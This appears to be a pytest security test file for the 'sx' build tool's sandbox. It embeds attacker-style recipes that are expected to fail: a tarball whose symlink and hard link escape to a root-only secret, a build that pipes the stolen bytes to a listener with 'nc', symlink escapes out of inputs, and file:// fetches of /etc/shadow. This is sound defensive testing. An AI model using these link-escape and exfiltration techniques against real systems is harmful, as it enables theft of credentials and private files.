"""Builtins that cannot read the host: recipes written as an attacker would, through the CLI.

Each runs as root and as user nobody, with the store in a world-searchable
directory. The secret is a file only root can read, in a directory only
root can enter, standing for ``/etc/shadow``; ``/etc/shadow`` itself is
tried by the ``file://`` cases. Every attack must fail with one ``sx:``
line, register nothing, and leave the secret's bytes nowhere in the store
and nowhere on the listener.
"""

from __future__ import annotations

import io
import os
import secrets
import shutil
import socket
import tarfile
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from sx.derivations.hashing import fixed_output_path
from sx.derivations.model import fetchurl
from sx.store.fsutil import remove_tree
from sx.store.hashing import Digest
from sx_runner import NOBODY, Sx

pytestmark = pytest.mark.sandbox
BUSYBOX = shutil.which("busybox") or "/bin/busybox"

RECIPE = '''
from sx.derivations.examples import busybox_tree
from sx.derivations.model import BUILTIN_UNPACK, Output, Source, derivation, fetchurl
from sx.store.hashing import Digest

BASE = {base!r}
PORT = {port}


def _file_hash(path):
    with open(path, "rb") as f:
        return Digest.b3(f.read())


def tarball():
    """The attacker's tar: l0 -> the secret, h0 a hard link to l0."""
    return fetchurl("evil.tar", "file://" + BASE + "/evil.tar", [_file_hash(BASE + "/evil.tar")])


def unpacked():
    t = tarball()
    return derivation("evil-unpacked", BUILTIN_UNPACK, env={{"src": t.out}}, inputs=[t],
                      system="builtin")


def exfil():
    """A fixed-output build (it has the network) that sends what unpack produced."""
    u = unpacked()
    bb = busybox_tree(BASE + "/bb", {busybox!r})
    script = f"cat {{u.out}}/h0 {{u.out}}/l0 | nc 127.0.0.1 {{PORT}}; echo x > $out"
    return derivation("exfil", f"{{bb}}/bin/sh", ["-c", script], inputs=[u], srcs=[bb],
                      outputs=[Output("out", (Digest.b3(b"x\\n"),))])


def src_link():
    """unpack's src: a symlink inside an input, to a private tar of the host."""
    src = Source(BASE + "/linkdir", "linkdir")
    return derivation("src-link", BUILTIN_UNPACK, env={{"src": f"{{src}}/t"}}, srcs=[src],
                      system="builtin")


def src_dirlink():
    """unpack's src: through a symlink inside an input, to a private host directory."""
    src = Source(BASE + "/dirlink", "dirlink")
    return derivation("src-dirlink", BUILTIN_UNPACK, env={{"src": f"{{src}}/d/secret.tar"}},
                      srcs=[src], system="builtin")


def shadow(hash_text):
    return fetchurl("shadow", "file:///etc/shadow", [hash_text])


def shadow_wrong():
    return shadow("b3:" + "0" * 64)


def shadow_right():
    return shadow({shadow_b3!r})


def named(path, hash_text):
    return fetchurl("named", "file://" + path, [hash_text])
'''


@dataclass
class World:
    """A store root, a recipe and the attacker's files in a world-searchable directory."""

    base: Path
    sx: Sx
    recipe: str
    secret: bytes
    private: Path
    received: list[bytes]

    def run(self, *args: str, **kw: object) -> tuple[int, str]:
        r = self.sx(*args, **kw)  # type: ignore[arg-type]
        return r.returncode, r.stderr

    def store_holds_secret(self) -> bool:
        """Whether any file under the store root holds the secret's bytes."""
        for dirpath, _, names in os.walk(self.base / "root"):
            for n in names:
                p = os.path.join(dirpath, n)
                if os.path.islink(p) or not os.path.isfile(p):
                    continue
                with open(p, "rb") as f:
                    if self.secret in f.read():
                        return True
        return False


def _tar(members: list[tarfile.TarInfo], data: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for m in members:
            payload = (data or {}).get(m.name)
            if payload is not None:
                m.size = len(payload)
            t.addfile(m, io.BytesIO(payload) if payload is not None else None)
    return buf.getvalue()


def _member(name: str, kind: bytes, link: str = "") -> tarfile.TarInfo:
    m = tarfile.TarInfo(name)
    m.type, m.linkname, m.mode = kind, link, 0o644
    return m


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on 127.0.0.1 that records what it is sent (for 120 s at most)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def loop() -> None:
        deadline = 600
        while not stop.is_set() and deadline:
            deadline -= 1
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                try:
                    while chunk := conn.recv(65536):
                        got.append(chunk)
                except OSError:
                    pass

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    yield int(srv.getsockname()[1]), got
    stop.set()
    t.join(5)
    srv.close()


@pytest.fixture(params=["root", "root-private", "nobody"])
def world(request: pytest.FixtureRequest,
          listener: tuple[int, list[bytes]]) -> Iterator[World]:
    """The attacker's setup, run by root (store in a world-searchable or a private
    directory) or by nobody."""
    nobody = request.param == "nobody"
    outer = Path(tempfile.mkdtemp(prefix="sx-attack-"))
    base = outer / "w"
    private = Path(tempfile.mkdtemp(prefix="sx-private-"))  # 0700, root's
    try:
        os.chmod(outer, 0o700 if request.param == "root-private" else 0o755)
        base.mkdir(mode=0o755)
        secret = b"SECRET-" + secrets.token_hex(16).encode()
        (private / "secret").write_bytes(secret)
        os.chmod(private / "secret", 0o600)
        inner = _tar([_member("secret", tarfile.REGTYPE)], {"secret": secret})
        (private / "secret.tar").write_bytes(inner)
        os.chmod(private / "secret.tar", 0o600)
        (base / "evil.tar").write_bytes(_tar([
            _member("l0", tarfile.SYMTYPE, str(private / "secret")),
            _member("h0", tarfile.LNKTYPE, "l0")]))
        (base / "linkdir").mkdir()
        os.symlink(private / "secret.tar", base / "linkdir" / "t")
        (base / "dirlink").mkdir()
        os.symlink(private, base / "dirlink" / "d")
        port, received = listener
        recipe = base / "recipe.py"
        recipe.write_text(RECIPE.format(base=str(base), port=port, busybox=BUSYBOX,
                                        shadow_b3=str(_shadow_hash("b3"))))
        if nobody:
            for p in (base, *base.rglob("*")):
                os.chown(p, NOBODY, NOBODY, follow_symlinks=False)
        yield World(base, Sx(str(base / "root"), nobody=nobody), str(recipe), secret, private,
                    received)
    finally:
        remove_tree(str(outer))
        remove_tree(str(private))


def _shadow_hash(algo: str) -> Digest:
    with open("/etc/shadow", "rb") as f:
        data = f.read()
    return Digest.b3(data) if algo == "b3" else Digest.sha256(data)


def _one_line(stderr: str) -> str:
    assert "Traceback" not in stderr, stderr
    lines = [ln for ln in stderr.splitlines() if ln.startswith("sx: ")]
    assert len(lines) == 1, stderr
    return lines[0]


def test_hard_link_to_a_symlink_does_not_copy_a_host_file(world: World) -> None:
    code, err = world.run("realize", f"{world.recipe}:exfil",
                          "--allow-file", str(world.base / "evil.tar"))
    assert code == 4, err
    assert "'h0': hard link to 'l0', which is not a regular file extracted before it" in \
        _one_line(err)
    assert world.received == []
    assert not world.store_holds_secret()
    code, _ = world.run("realize", "--no-build", f"{world.recipe}:unpacked",
                        "--allow-file", str(world.base / "evil.tar"))
    assert code == 4  # nothing was registered for it


@pytest.mark.parametrize("attr", ["src_link", "src_dirlink"])
def test_unpack_src_cannot_follow_a_symlink_out_of_its_inputs(world: World, attr: str) -> None:
    code, err = world.run("realize", f"{world.recipe}:{attr}")
    assert code == 4, err
    assert "leads outside the inputs of the derivation" in _one_line(err)
    assert not world.store_holds_secret()


def test_file_url_to_a_file_nobody_allowed(world: World) -> None:
    hashes = [str(_shadow_hash("b3")), str(_shadow_hash("sha256"))]
    for attr in ("shadow_wrong", "shadow_right"):
        code, err = world.run("realize", f"{world.recipe}:{attr}")
        assert code == 4, err
        assert "fetch file:///etc/shadow: not an allowed file" in _one_line(err)
        assert not any(h in err or h.split(":")[1] in err for h in hashes)
    right = fetchurl("shadow", "file:///etc/shadow", [_shadow_hash("b3")])
    assert world.run("path-info", str(fixed_output_path(right)))[0] == 1


def test_file_url_allowed_but_unreadable_says_so_without_a_hash(world: World) -> None:
    code, err = world.run("realize", f"{world.recipe}:shadow_wrong",
                          "--allow-file", "/etc/shadow")
    if not world.sx.nobody:
        # Root named the file itself: it may read it, and the mismatch names both hashes.
        assert code == 4 and f"flat hash {_shadow_hash('b3')}" in _one_line(err)
        return
    assert code == 4, err
    assert _one_line(err).endswith("fetch file:///etc/shadow: permission denied")
    assert str(_shadow_hash("b3")).split(":")[1] not in err


def _named(world: World, path: str, hash_text: str) -> str:
    """An installable for the recipe's ``named(path, hash)`` (a recipe takes no arguments)."""
    wrapper = world.base / f"wrap-{secrets.token_hex(4)}.py"
    wrapper.write_text(f"import runpy\nns = runpy.run_path({world.recipe!r})\n"
                       f"def it():\n    return ns['named']({path!r}, {hash_text!r})\n")
    return f"{wrapper}:it"


def test_file_url_allowed_on_the_command_line_or_in_the_config(world: World) -> None:
    data = b"a tarball the user named\n"
    f = world.base / "named.tar"
    f.write_bytes(data)
    os.chown(f, NOBODY if world.sx.nobody else 0, NOBODY if world.sx.nobody else 0)
    expr = _named(world, str(f), str(Digest.b3(data)))
    code, err = world.run("realize", expr)
    assert code == 4 and "not an allowed file" in _one_line(err)
    code, err = world.run("realize", expr, "--allow-file", str(f))
    assert code == 0, err
    conf = world.base / "sx.conf"
    conf.write_text(f'allowed-files = ["{world.base}/"]\n')
    other = Sx(str(world.base / "root2"), nobody=world.sx.nobody)
    r = other("realize", expr, env={"SX_CONFIG": str(conf)})
    assert r.returncode == 0, r.stderr


def test_file_url_through_a_symlink_in_an_allowed_directory(world: World) -> None:
    link = world.base / "shadow-link"
    os.symlink("/etc/shadow", link)
    expr = _named(world, str(link), "b3:" + "0" * 64)
    code, err = world.run("realize", expr, "--allow-file", f"{world.base}/")
    assert code == 4 and "not an allowed file" in _one_line(err)
    assert str(_shadow_hash("b3")).split(":")[1] not in err


def test_file_url_to_a_device_is_refused(world: World) -> None:
    expr = _named(world, "/dev/zero", "b3:" + "0" * 64)
    code, err = world.run("realize", expr, "--allow-file", "/dev/zero")
    assert code == 4 and _one_line(err).endswith("fetch file:///dev/zero: not a regular file")


def test_the_builtin_runtime_shows_no_directory_of_the_caller(tmp_path: Path) -> None:
    """``python script.py`` and ``python -m`` put the caller's directory on sys.path: the
    sandbox of a builtin must not see it."""
    import json
    import subprocess
    import sys

    script = tmp_path / "probe.py"
    script.write_text("import json\nfrom sx.derivations.build.runtime import python_runtime\n"
                      "print(json.dumps(python_runtime().paths))\n")
    out = subprocess.run([sys.executable, str(script)], cwd=tmp_path, capture_output=True,
                         text=True, timeout=60, check=True).stdout
    paths = json.loads(out)
    assert "/usr" in paths
    assert not any(str(tmp_path).startswith(p.rstrip("/") + "/") or str(tmp_path) == p
                   for p in paths)
